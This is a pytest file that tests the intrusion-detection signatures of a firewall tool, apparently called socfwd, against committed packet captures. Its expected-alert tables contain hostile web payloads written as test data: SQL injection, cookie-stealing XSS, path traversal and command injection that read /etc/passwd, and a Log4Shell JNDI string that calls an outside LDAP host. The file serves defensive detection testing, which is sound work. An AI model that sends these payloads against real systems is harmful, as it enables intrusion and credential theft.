"""IDS signatures on committed captures: `socfwd --pcap` over
Tests/fixtures/ids/*.pcap, with exact expected matches and alerts per
signature id, verdict counts, and the EVE alert records. Needs no root and
no scapy (the captures are committed; Tests/fixtures/ids/make_captures.py
documents and rebuilds them).

  http_attacks.pcap  one connection per default-set attack class
  http_benign.pcap   24 ordinary requests: nothing may fire
  http_split.pcap    the SQLi request split inside "UNION", in and out of order
  local_rules.pcap   traffic for Tests/fixtures/ids/local.rules (default set off)

A signature that drops blocks the rest of its flow: those packets are
counted in `blocked_flow_packets` and dropped."""
import collections
import json
import shutil
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import HAVE_SOCFWD, NO_SOCFWD_REASON, REPO, SOCFWD_BIN

pytestmark = pytest.mark.skipif(not HAVE_SOCFWD, reason=NO_SOCFWD_REASON)

FIXTURES = REPO / "Tests" / "fixtures" / "ids"
CAPTURES = ("http_attacks.pcap", "http_benign.pcap", "http_split.pcap", "local_rules.pcap")
LOCAL_RULES = FIXTURES / "local.rules"
BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"


# ----------------------------------------------------------------- helpers
class Packet:
    """The fields of one captured Ethernet/IPv4 TCP or UDP frame the tests need."""

    def __init__(self, index, sec, usec, frame):
        self.index = index
        self.timestamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec)) + f".{usec:06d}+0000"
        assert frame[12:14] == b"\x08\x00", f"record {index}: not IPv4"
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        self.proto = ip[9]
        self.src = ".".join(map(str, ip[12:16]))
        self.dst = ".".join(map(str, ip[16:20]))
        l4 = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
        self.sport, self.dport = struct.unpack("!HH", l4[:4])
        if self.proto == 6:
            self.seq = struct.unpack("!I", l4[4:8])[0]
            self.flags = l4[13]
            self.payload = l4[(l4[12] >> 4) * 4:]
        else:
            self.seq, self.flags, self.payload = 0, 0, l4[8:]

    @property
    def from_client(self):
        return self.src.startswith("198.18.")

    @property
    def client(self):
        """(client address, client port): the connection the packet belongs to."""
        return (self.src, self.sport) if self.from_client else (self.dst, self.dport)


def read_pcap(path):
    data = Path(path).read_bytes()
    magic, _, _, _, _, _, link = struct.unpack_from("<IHHiIII", data, 0)
    assert magic == 0xA1B2C3D4 and link == 1, f"{path}: not a classic microsecond Ethernet pcap"
    packets, off = [], 24
    while off < len(data):
        sec, usec, incl, _ = struct.unpack_from("<IIII", data, off)
        off += 16
        packets.append(Packet(len(packets), sec, usec, data[off:off + incl]))
        off += incl
    return packets


def connections(packets):
    """Packets grouped by connection (client address and port), in capture order."""
    conns = collections.defaultdict(list)
    for p in packets:
        conns[p.client].append(p)
    return conns


class Replay:
    def __init__(self, pcap, summary, events):
        self.pcap = pcap
        self.summary = summary
        self.events = events

    @property
    def sig(self):
        return self.summary["signatures"]

    @property
    def hits(self):
        """{sid: matches} of the summary."""
        return {h["sid"]: h["matches"] for h in self.sig["hits"]}

    @property
    def alerts(self):
        return [e for e in self.events if e["event_type"] == "alert" and "signature_id" in e.get("alert", {})]

    def alerts_by_port(self, sid):
        """{client port: alerts} for one signature id."""
        return dict(collections.Counter(e["src_port"] for e in self.alerts if e["alert"]["signature_id"] == sid))

    def flow_records(self):
        return [e for e in self.events if e["event_type"] == "flow"]


def replay(directory, capture, default_set=True, signatures=()):
    """Runs `socfwd --pcap` on a committed capture with no firewall rules (every
    packet a signature does not stop is accepted) and returns the summary and
    the EVE records."""
    directory.mkdir(parents=True, exist_ok=True)
    rules = directory / "rules.yaml"
    rules.write_text("rules: []\n")
    config = directory / "socfwd.yaml"
    text = f"rules: {rules}\n"
    if not default_set:
        text += "signatures: {default_set: false}\n"
    config.write_text(text)
    eve = directory / "eve.json"
    args = [SOCFWD_BIN, "--pcap", str(FIXTURES / capture), "--config", str(config), "--eve", str(eve)]
    for s in signatures:
        args += ["--signatures", str(s)]
    p = subprocess.run(args, capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, f"exit {p.returncode}: {args}\n{p.stderr}"
    summary = json.loads(p.stdout.strip().splitlines()[-1])
    events = [json.loads(line) for line in eve.read_text().splitlines()] if eve.exists() else []
    return Replay(capture, summary, events)


@pytest.fixture(scope="module")
def attacks(tmp_path_factory):
    return replay(tmp_path_factory.mktemp("attacks"), "http_attacks.pcap")


@pytest.fixture(scope="module")
def benign(tmp_path_factory):
    return replay(tmp_path_factory.mktemp("benign"), "http_benign.pcap")


@pytest.fixture(scope="module")
def split(tmp_path_factory):
    return replay(tmp_path_factory.mktemp("split"), "http_split.pcap")


@pytest.fixture(scope="module")
def local(tmp_path_factory):
    return replay(tmp_path_factory.mktemp("local"), "local_rules.pcap", default_set=False,
                  signatures=[LOCAL_RULES])


# ------------------------------------------------------------ http_attacks
ATTACK_CLIENT, ATTACK_SERVER = "198.18.0.10", "198.19.0.80"

# client port: (server port, method, url as sent, hostname, user agent, default-set sids it raises)
ATTACKS = {
    40001: (80, "GET", "/item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
            "shop.example.test", BROWSER_UA, [9000001]),
    40002: (80, "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            "www.example.test", BROWSER_UA, [9000011]),
    # the raw URI has ../ and the URI names /etc/passwd
    40003: (80, "GET", "/download?file=../../etc/passwd", "files.example.test", BROWSER_UA, [9000021, 9000022]),
    # ;cat after a separator, and /etc/passwd
    40004: (80, "GET", "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd",
            "router.example.test", BROWSER_UA, [9000022, 9000031]),
    40005: (80, "GET", "/", "app.example.test", "${jndi:ldap://203.0.113.5:1389/Exploit}", [9000041]),
    40006: (8080, "GET", "/cgi-bin/status", "legacy.example.test", BROWSER_UA, [9000043]),
    40007: (80, "POST", "/login.php", "shop.example.test", BROWSER_UA, [9000005]),
}
ATTACK_BODY = b"user=admin&pass=x%27+UNION+SELECT+password+FROM+users--"
ATTACK_HITS = {9000001: 1, 9000005: 1, 9000011: 1, 9000021: 1, 9000022: 2, 9000031: 1, 9000041: 1, 9000043: 1}


def test_http_attacks_capture_shape():
    """The fixture is what the expectations below assume: 7 connections of 9
    packets (10 for the POST, whose body is its own segment), the request's
    last segment followed by 5 more packets (response, ACK, FIN, FIN, ACK)."""
    conns = connections(read_pcap(FIXTURES / "http_attacks.pcap"))
    assert sorted(conns) == [(ATTACK_CLIENT, port) for port in ATTACKS]
    for (_, port), pkts in conns.items():
        assert len(pkts) == (10 if port == 40007 else 9), port
        last_request = max(i for i, p in enumerate(pkts) if p.from_client and p.payload)
        assert len(pkts) - last_request - 1 == 5, port


def test_http_attacks_summary(attacks):
    s = attacks.summary
    assert s["records"] == 64 and s["packets"] == 64 and s["malformed"] == 0, s
    assert attacks.hits == ATTACK_HITS, attacks.sig["hits"]
    assert all(h["action"] == "drop" and h["gid"] == 1 for h in attacks.sig["hits"]), attacks.sig["hits"]
    sig = attacks.sig
    # 9 alerts (two requests raise two signatures each), one dropped packet per connection,
    # then 5 packets of each blocked flow.
    assert (sig["alerts"], sig["matches"], sig["drops"], sig["rejects"]) == (9, 9, 7, 0), sig
    assert sig["blocked_flow_packets"] == 35, sig
    assert sig["http_requests"] == 7 and sig["threshold_suppressed"] == 0, sig
    # accepted: 3 handshake packets per connection, plus the POST's header segment
    assert s["verdicts"] == {"accept": 22, "drop": 42, "reject": 0}, s["verdicts"]
    assert s["flows"]["new"] == 7 and s["flows"]["invalid"] == 0, s["flows"]


def test_http_attacks_eve_alerts(attacks):
    packets = read_pcap(FIXTURES / "http_attacks.pcap")
    conns = connections(packets)
    names = {h["sid"]: h["signature"] for h in attacks.sig["hits"]}
    flows = {(f["src_ip"], f["src_port"]): f for f in attacks.flow_records()}
    by_port = collections.defaultdict(list)
    for e in attacks.alerts:
        by_port[e["src_port"]].append(e)
    assert sorted(by_port) == sorted(ATTACKS), [(e["src_port"], e["alert"]["signature_id"]) for e in attacks.alerts]
    flow_ids = set()
    for port, (sport, method, url, host, ua, sids) in ATTACKS.items():
        alerts = by_port[port]
        assert sorted(e["alert"]["signature_id"] for e in alerts) == sids, (port, alerts)
        # raised on the packet that completes the request (the POST: its body segment)
        pkts = conns[(ATTACK_CLIENT, port)]
        completing = [p for p in pkts if p.from_client and p.payload][-1]
        for e in alerts:
            where = (port, e["alert"]["signature_id"])
            assert e["alert"]["action"] == "blocked", where
            assert e["alert"]["gid"] == 1 and e["alert"]["signature"] == names[e["alert"]["signature_id"]], where
            assert e["app_proto"] == "http" and e["proto"] == "TCP", where
            assert (e["src_ip"], e["src_port"], e["dest_ip"], e["dest_port"]) == \
                (ATTACK_CLIENT, port, ATTACK_SERVER, sport), where
            h = e["http"]
            assert h["url"] == url and h["hostname"] == host, (where, h)
            assert h["http_method"] == method and h["protocol"] == "HTTP/1.1", (where, h)
            assert h["http_user_agent"] == ua, (where, h)
            if method == "POST":
                assert h["length"] == len(ATTACK_BODY), (where, h)
            assert e["timestamp"] == completing.timestamp, (where, e["timestamp"], completing.timestamp)
            assert isinstance(e["flow_id"], int) and e["flow_id"] > 0, where
        ids = {e["flow_id"] for e in alerts}
        assert len(ids) == 1, (port, ids)
        flow = flows[(ATTACK_CLIENT, port)]
        assert flow["flow_id"] in ids and flow["dest_port"] == sport, (port, flow)
        flow_ids |= ids
    assert len(flow_ids) == len(ATTACKS), "every connection is its own flow"


def test_http_attacks_flow_records_say_alerted(attacks, benign):
    """EVE flow records: `flow.alerted` is true for a flow that raised an
    alert (Suricata's meaning), false for the others."""
    alerted = {(e["src_ip"], e["src_port"]) for e in attacks.alerts}
    records = attacks.flow_records()
    assert len(records) == len(ATTACKS)
    wrong = [(f["src_port"], f["flow"]["alerted"]) for f in records
             if f["flow"]["alerted"] != ((f["src_ip"], f["src_port"]) in alerted)]
    assert not wrong, f"flow.alerted wrong for client ports {wrong}"
    assert all(f["flow"]["alerted"] is False for f in benign.flow_records())


# ------------------------------------------------------------- http_benign
def test_http_benign_raises_nothing(benign):
    s, sig = benign.summary, benign.sig
    assert s["packets"] == s["records"] == 108 and s["malformed"] == 0, s
    assert sig["hits"] == [], sig["hits"]
    assert (sig["alerts"], sig["matches"], sig["drops"], sig["rejects"], sig["blocked_flow_packets"]) == \
        (0, 0, 0, 0, 0), sig
    assert sig["http_requests"] == 24, "every request was parsed as HTTP"
    assert s["verdicts"] == {"accept": 108, "drop": 0, "reject": 0}, s["verdicts"]
    assert s["flows"]["new"] == 6 and s["flows"]["invalid"] == 0, s["flows"]
    kinds = collections.Counter(e["event_type"] for e in benign.events)
    assert kinds == {"flow": 6}, kinds


def test_http_benign_capture_has_the_requests_it_claims():
    """20+ requests, the tricky ones among them (so the test above means something)."""
    requests = [p.payload.split(b"\r\n", 1)[0] for p in read_pcap(FIXTURES / "http_benign.pcap")
                if p.from_client and p.payload[:8].split(b" ")[0] in (b"GET", b"POST", b"PUT", b"DELETE")]
    assert len(requests) == 24, requests
    for needle in (b"union%20station%20select", b"credit%20union%20selection", b"select-the-right-union",
                   b"name=Obrien", b"report..final.pdf", b"POST /login", b"POST /api/v1/search",
                   b"DELETE /api/v1/orders/17", b"POST /comments"):
        assert any(needle in r for r in requests), needle


# -------------------------------------------------------------- http_split
SPLIT_CLIENT = "198.18.0.30"


def test_http_split_capture_shape():
    conns = connections(read_pcap(FIXTURES / "http_split.pcap"))
    assert sorted(conns) == [(SPLIT_CLIENT, 40301), (SPLIT_CLIENT, 40302)]
    for port, in_order in ((40301, True), (40302, False)):
        data = [p for p in conns[(SPLIT_CLIENT, port)] if p.from_client and p.payload]
        assert len(data) == 2
        first, second = sorted(data, key=lambda p: p.seq)
        assert first.payload.endswith(b"%20UN") and second.payload.startswith(b"ION%20SELECT"), port
        assert (data[0] is first) == in_order, port


def test_http_split_alerts_once_per_connection(split):
    s, sig = split.summary, split.sig
    assert split.hits == {9000001: 2}, sig["hits"]
    assert (sig["alerts"], sig["matches"], sig["drops"], sig["rejects"]) == (2, 2, 2, 0), sig
    # after the dropped segment: response, ACK, FIN, FIN, ACK of each connection
    assert sig["blocked_flow_packets"] == 10, sig
    # accepted: handshake + the segment that does not complete the request (+ the server's
    # duplicate ACK of the out-of-order one)
    assert s["verdicts"] == {"accept": 9, "drop": 12, "reject": 0}, s["verdicts"]
    assert s["flows"]["new"] == 2 and s["flows"]["invalid"] == 0, s["flows"]


def test_http_split_eve_alert_is_raised_by_the_completing_segment(split):
    conns = connections(read_pcap(FIXTURES / "http_split.pcap"))
    assert split.alerts_by_port(9000001) == {40301: 1, 40302: 1}
    for e in split.alerts:
        data = [p for p in conns[(SPLIT_CLIENT, e["src_port"])] if p.from_client and p.payload]
        assert e["timestamp"] == data[1].timestamp, (e["src_port"], e["timestamp"])
        assert e["alert"]["action"] == "blocked" and e["app_proto"] == "http"
        assert e["http"]["url"] == "/item.php?id=1%20UNION%20SELECT%20password%20FROM%20users"
        assert e["http"]["hostname"] == "shop.example.test"
        assert (e["src_ip"], e["dest_ip"], e["dest_port"]) == (SPLIT_CLIENT, "198.19.0.80", 80)


# -------------------------------------------------------------- local.rules
# sid: (summary matches, {client port: EVE alerts}, EVE alert.action, rule kind)
# Connections of the rule's traffic that are not listed must raise nothing.
LOCAL = {
    # content offset 4 depth 5 on the stream. 42001: "HDR:SOCFW" (1), then a second
    # segment with SOCFW past the depth (no new alert); 42002: "HDR:xSOCFW" (0)
    8000001: (1, {42001: 1}, "allowed", "stream"),
    # "USER " then "root" distance 0 within 8. 42011: one segment; 42013: split inside
    # "USER "; 42014: split between "USER " and "root"; 42012: root too far (0)
    8000002: (3, {42011: 1, 42013: 1, 42014: 1}, "allowed", "stream"),
    # content "token=" then pcre /^[0-9a-f]{32}\r\n/R. 42021: one segment; 42023: split
    # inside the hex digits; 42022: one non-hex digit (0)
    8000003: (2, {42021: 1, 42023: 1}, "allowed", "stream"),
    # http.uri startswith /admin/console: direct and /static/../ (normalised); not /docs/admin/...
    8000004: (2, {42031: 2}, "allowed", "http"),
    # http.user_agent sqlmap/ nocase: two UAs; not sqlmap in the URI
    8000005: (2, {42032: 2}, "allowed", "http"),
    # http.host endswith malware.example: lower and mixed case with a port; not
    # malware.example.net, not the name in the URI
    8000006: (2, {42033: 2}, "allowed", "http"),
    # flowbits set + noalert: matches on each POST /login (42041, 42043, 42044), never alerts
    8000007: (3, {}, None, "http"),
    # flowbits isset: /export after the login of the same connection (42041, 42043's second
    # /export, 42044 pipelined in one segment); not 42042 (no login), not 42043's first /export
    8000008: (3, {42041: 1, 42043: 1, 42044: 1}, "allowed", "http"),
    # threshold limit 2/60 s by_src: 5 matches from .40 (2 alerts), 1 from .41 (1 alert)
    8000009: (6, {42051: 2, 42053: 1}, "allowed", "http"),
    # UDP dsize <16: two short pings; not the 44-byte one, not the reply
    8000010: (2, {42061: 1, 42062: 1}, "allowed", "packet"),
    8000011: (1, {42071: 1}, "allowed", "stream"),
    8000012: (1, {42072: 1}, "blocked", "stream"),
    # to_server: the client's hello; not the server's banner, not the hello on the SYN
    8000013: (1, {42081: 1}, "allowed", "stream"),
}
LOCAL_CLIENTS = {"198.18.0.40", "198.18.0.41"}


def test_local_rules_all_load(tmp_path):
    """Every rule of local.rules is loaded and compiled (a skipped rule would
    make its negative cases pass for nothing)."""
    (tmp_path / "rules.yaml").write_text("rules: []\n")
    config = tmp_path / "socfwd.yaml"
    config.write_text(f"rules: {tmp_path / 'rules.yaml'}\nsignatures: {{default_set: false}}\n")
    p = subprocess.run([SOCFWD_BIN, "--check-config", "--json", "--config", str(config),
                        "--signatures", str(LOCAL_RULES)], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    report = json.loads(p.stdout.strip().splitlines()[-1])
    rules = report["rules"]
    assert (rules["rules_seen"], rules["loaded"], rules["skipped"]) == (13, 13, 0), rules
    assert report["not_compiled"] == 0, report
    assert report["by_context"].get("http_request") == 6 and report["by_context"].get("packet") == 1, report


@pytest.mark.parametrize("sid", sorted(LOCAL))
def test_local_rule(local, sid):
    matches, per_port, action, kind = LOCAL[sid]
    got_matches = local.hits.get(sid, 0)
    got_alerts = local.alerts_by_port(sid)
    assert (got_matches, got_alerts) == (matches, per_port), \
        f"sid {sid}: expected {matches} matches and alerts per client port {per_port}, " \
        f"got {got_matches} and {got_alerts}"
    for e in local.alerts:
        if e["alert"]["signature_id"] != sid:
            continue
        assert e["alert"]["action"] == action, e
        assert e["src_ip"] in LOCAL_CLIENTS and e["dest_ip"].startswith("198.19."), e
        assert (e.get("app_proto") == "http") == (kind == "http"), e
        if kind == "http":
            assert e["dest_port"] == 80 and e["http"]["protocol"] == "HTTP/1.1", e


def test_local_rules_totals(local):
    s, sig = local.summary, local.sig
    assert s["packets"] == s["records"] == 256 and s["malformed"] == 0, s
    assert set(local.hits) == set(LOCAL), sig["hits"]
    assert {h["sid"]: h["action"] for h in sig["hits"]} == {
        sid: ("drop" if sid == 8000012 else "alert") for sid in LOCAL}
    assert sig["matches"] == sum(m for m, _, _, _ in LOCAL.values()) == 29, sig
    # 8000007 never alerts (noalert); 8000009 has 3 matches suppressed
    assert sig["alerts"] == sum(sum(p.values()) for _, p, _, _ in LOCAL.values()) == 23, sig
    assert sig["threshold_suppressed"] == 3, sig
    assert (sig["drops"], sig["rejects"], sig["blocked_flow_packets"]) == (1, 0, 5), sig
    assert s["verdicts"] == {"accept": 250, "drop": 6, "reject": 0}, s["verdicts"]
    assert s["flows"]["invalid"] == 0, s["flows"]


def test_local_rules_drop_blocks_the_rest_of_its_flow_only(local):
    """8000012 drops the marker segment of 42072 and the 5 packets after it;
    8000011 (alert) lets the same bytes on 42071 through."""
    conns = connections(read_pcap(FIXTURES / "local_rules.pcap"))
    pkts = conns[("198.18.0.40", 42072)]
    marker = next(i for i, p in enumerate(pkts) if b"EXPLOIT-MARKER" in p.payload)
    assert len(pkts) - marker - 1 == 5
    assert local.sig["blocked_flow_packets"] == 5
    drop = next(e for e in local.alerts if e["alert"]["signature_id"] == 8000012)
    assert drop["timestamp"] == pkts[marker].timestamp and drop["src_port"] == 42072
    allowed = next(e for e in local.alerts if e["alert"]["signature_id"] == 8000011)
    assert allowed["alert"]["action"] == "allowed" and allowed["dest_port"] == 7004


# ------------------------------------------------------------ the captures
def _python_with_scapy():
    for exe in dict.fromkeys([sys.executable, "/usr/bin/python3"]):
        if exe and shutil.which(exe):
            r = subprocess.run([exe, "-c", "import scapy.all"], capture_output=True, timeout=60)
            if r.returncode == 0:
                return exe
    return None


def test_captures_are_small():
    for name in CAPTURES:
        size = (FIXTURES / name).stat().st_size
        assert 0 < size < 32 * 1024, (name, size)


def test_make_captures_reproduces_the_committed_bytes(tmp_path):
    exe = _python_with_scapy()
    if exe is None:
        pytest.skip("no python3 with scapy (Debian: python3-scapy) to rebuild the captures")
    r = subprocess.run([exe, str(FIXTURES / "make_captures.py"), "--out", str(tmp_path)],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    for name in CAPTURES:
        assert (tmp_path / name).read_bytes() == (FIXTURES / name).read_bytes(), \
            f"{name} differs from what make_captures.py builds: rerun it and commit the result"
